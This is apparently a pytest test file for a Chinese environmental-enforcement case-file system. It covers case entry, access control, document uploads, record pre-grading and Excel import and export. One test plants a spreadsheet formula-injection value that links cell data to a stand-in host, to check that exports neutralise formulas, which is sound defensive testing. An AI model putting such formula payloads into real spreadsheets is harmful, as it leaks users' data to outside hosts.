"""Case files as a county admin uses them: the form, documents, pasted records, the Excel list."""

from __future__ import annotations

import io

import pytest
from openpyxl import Workbook
from sqlalchemy import func, select

from casestudies.casefiles import services
from casestudies.casefiles.importers import HEADER
from casestudies.casefiles.models import CaseDocument, CaseFile
from casestudies.errors import CaseError
from lianbing.audit.models import AuditLog
from lianbing.extensions import db

from .conftest import PDF, case_data, user

GOOD_RECORD = """现场检查笔录
检查时间：2017年7月20日9时30分至10时45分
检查地点：工业园3号厂房电镀车间
被检查单位：某电镀公司
法定代表人：王某
联系电话：13800000001
执法人员：李建华（执法证号：44140200011）、王志强（执法证号：44140200012）
记录人：王志强
现场检查情况：
执法人员出示执法证件，告知当事人有权申请回避，当事人表示不申请回避。
该厂正在生产，污水处理设施正常运行，排放口有废水排出，现场采样2瓶。
被检查人意见：以上笔录属实。
签名日期：2017年7月20日
"""


def _form(n=1, officers=("officer_441402_1",)):
    return {
        "case_no": f"梅江环罚〔2017〕{n}号",
        "category": "seizure",
        "party": "某电镀有限公司",
        "violation": "超标排放",
        "legal_basis": "水污染防治法",
        "decision": "查封",
        "amount": "",
        "filed_on": "2017-03-01",
        "closed_on": "2017-06-01",
        "officer_ids": [str(user(o).id) for o in officers],
    }


def test_county_admin_enters_a_case_and_sees_it_listed(client, auth, demo_people):
    auth.login("admin_441402")
    response = client.post("/casestudies/casefiles/new", data=_form())
    assert response.status_code == 302
    page = client.get("/casestudies/casefiles").get_data(as_text=True)
    assert "梅江环罚〔2017〕1号" in page and "查封扣押" in page


def test_officer_of_another_county_and_reversed_dates_are_refused(client, auth, demo_people):
    auth.login("admin_441402")
    response = client.post("/casestudies/casefiles/new", data=_form(officers=["officer_441403_1"]))
    assert response.status_code == 400  # not offered on the form, so not a valid choice
    with pytest.raises(CaseError, match="不是本单位人员"):
        services.check_case(
            case_data(1, officer_ids=[user("officer_441403_1").id]), user("admin_441402").bureau_id
        )
    data = _form() | {"filed_on": "2017-07-01"}
    response = client.post("/casestudies/casefiles/new", data=data)
    assert response.status_code == 400 and "早于立案日期" in response.get_data(as_text=True)
    assert db.session.scalar(select(func.count()).select_from(CaseFile)) == 0


def test_duplicate_case_number_is_a_conflict(client, auth, make_case):
    case = make_case(1)
    auth.login("admin_441402")
    response = client.post("/casestudies/casefiles/new", data=_form() | {"case_no": case.case_no})
    assert response.status_code == 409 and "已经录入过" in response.get_data(as_text=True)


def test_other_county_and_officers_cannot_open_a_case(client, auth, make_case):
    case = make_case(1)
    auth.login("admin_441403")
    assert client.get(f"/casestudies/casefiles/{case.id}").status_code == 403
    auth.logout()
    auth.login("officer_441402_1")
    assert client.get(f"/casestudies/casefiles/{case.id}").status_code == 403
    auth.logout()
    auth.login("city_admin")
    assert client.get(f"/casestudies/casefiles/{case.id}").status_code == 200


def _upload(client, case_id, data=PDF, name="决定书.pdf", pages="3", doc_type="decision"):
    return client.post(
        f"/casestudies/casefiles/{case_id}/documents",
        data={"doc_type": doc_type, "pages": pages, "file": (io.BytesIO(data), name)},
        content_type="multipart/form-data",
    )


def test_document_upload_lists_it_and_downloads_with_range(client, auth, make_case, store_dir):
    case = make_case(1)
    auth.login("admin_441402")
    assert _upload(client, case.id).status_code == 302
    page = client.get(f"/casestudies/casefiles/{case.id}").get_data(as_text=True)
    assert "决定书.pdf" in page and "共 3 页" in page
    doc = db.session.scalar(select(CaseDocument))
    assert (store_dir / doc.sha256[:2] / doc.sha256[2:4] / doc.sha256).read_bytes() == PDF
    part = client.get(f"/casestudies/casefiles/documents/{doc.id}", headers={"Range": "bytes=0-7"})
    assert part.status_code == 206 and part.data == PDF[:8]
    whole = client.get(f"/casestudies/casefiles/documents/{doc.id}?inline=1")
    assert whole.status_code == 200 and whole.data == PDF
    assert whole.headers["Content-Type"] == "application/pdf"


def test_wrong_type_oversize_and_bad_pages_are_refused_and_nothing_is_listed(
    app, client, auth, make_case
):
    case = make_case(1)
    auth.login("admin_441402")
    response = _upload(client, case.id, data=b"MZ\x90", name="tool.exe")
    assert "不支持的文件类型" in client.get(response.location).get_data(as_text=True)
    app.config["MAX_DOCUMENT_MB"] = 1
    try:
        response = _upload(client, case.id, data=b"%PDF" + b"0" * (1024 * 1024 + 10))
        assert "超过大小限制" in client.get(response.location).get_data(as_text=True)
    finally:
        app.config["MAX_DOCUMENT_MB"] = 50
    response = _upload(client, case.id, pages="0")
    assert "页数" in client.get(response.location).get_data(as_text=True)
    assert db.session.scalar(select(func.count()).select_from(CaseDocument)) == 0


def test_pasted_record_is_pre_graded_with_evidence_highlighted(
    client, auth, make_case, record_rubric
):
    case = make_case(1)
    auth.login("admin_441402")
    text = GOOD_RECORD.replace("执法人员出示执法证件，", "")
    response = client.post(
        f"/casestudies/casefiles/{case.id}/records",
        data={"record_type": "inspection", "text": text},
    )
    assert response.status_code == 302
    page = client.get(response.location).get_data(as_text=True)
    assert "自动预评" in page
    assert 'class="cs-good"' in page  # evidence found in the text is marked
    assert "出示执法证件" in page and "✗" in page  # the missing element is named


def _sheet(rows) -> bytes:
    book = Workbook()
    sheet = book.active
    sheet.append(HEADER)
    for row in rows:
        sheet.append([row.get(h, "") for h in HEADER])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _row(n, **kw):
    return {
        "文号": f"梅江环罚〔2017〕{n}号",
        "案件类别": "一般行政处罚",
        "当事人": f"某公司{n}",
        "立案日期": "2017-03-01",
        "结案日期": "2017-05-01",
        "承办人员": "officer_441402_1、officer_441402_2",
    } | kw


def _import(client, raw):
    return client.post(
        "/casestudies/casefiles/import",
        data={"file": (io.BytesIO(raw), "cases.xlsx")},
        content_type="multipart/form-data",
    )


def test_excel_case_list_is_imported_whole(client, auth, demo_people):
    auth.login("admin_441402")
    response = _import(client, _sheet([_row(1), _row(2, 案件类别="稽查")]))
    assert response.status_code == 302
    cases = db.session.scalars(select(CaseFile).order_by(CaseFile.case_no)).all()
    assert [c.category for c in cases] == ["general", "audit"]
    assert [u.username for u in cases[0].officers] == ["officer_441402_1", "officer_441402_2"]


def test_excel_rows_with_unknown_officer_or_category_refuse_the_whole_file(
    client, auth, demo_people
):
    auth.login("admin_441402")
    raw = _sheet([_row(1), _row(2, 案件类别="罚着玩"), _row(3, 承办人员="officer_441403_1")])
    response = _import(client, raw)
    page = response.get_data(as_text=True)
    assert response.status_code == 400
    assert "第 3 行" in page and "案件类别“罚着玩”无效" in page
    assert "第 4 行" in page and "不在本单位花名册中" in page
    assert db.session.scalar(select(func.count()).select_from(CaseFile)) == 0
    audit = db.session.scalar(
        select(AuditLog).where(AuditLog.action == "casestudies.casefile.import_refused")
    )
    assert audit is not None and "罚着玩" in audit.reason


def test_pool_export_and_template_go_through_the_formula_safe_writer(app, demo_people):
    from openpyxl import load_workbook

    from casestudies.casefiles import importers, pool
    from lianbing.host import set_backbone

    officer = user("officer_441402_1")
    officer.display_name = '=HYPERLINK("http://x"&A2,"x")'
    set_backbone(officer, ["review"], actor_id=None)
    db.session.flush()
    sheet = load_workbook(io.BytesIO(pool.export_pool())).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    assert officer.display_name in [c.value for c in cells]
    header = next(
        load_workbook(io.BytesIO(importers.template())).active.iter_rows(values_only=True)
    )
    assert list(header) == importers.HEADER
